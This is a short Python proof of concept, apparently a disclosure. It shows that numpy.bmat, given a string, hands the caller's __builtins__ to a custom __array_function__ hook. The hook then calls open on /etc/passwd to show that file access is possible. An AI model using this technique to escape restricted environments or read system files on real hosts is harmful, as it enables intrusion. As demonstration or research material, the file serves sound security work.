# numpy.bmat takes variables of its caller by the names in a text, __builtins__ too, and hands them to __array_function__.
import numpy as np
class Own:
    def __array_function__(self, func, types, args, kwargs):
        print("REACHED file", args[0][1].open("/etc/passwd").read().count("root"))
        raise KeyError
own = Own()
try:
    np.bmat("own, __builtins__")
except KeyError:
    pass
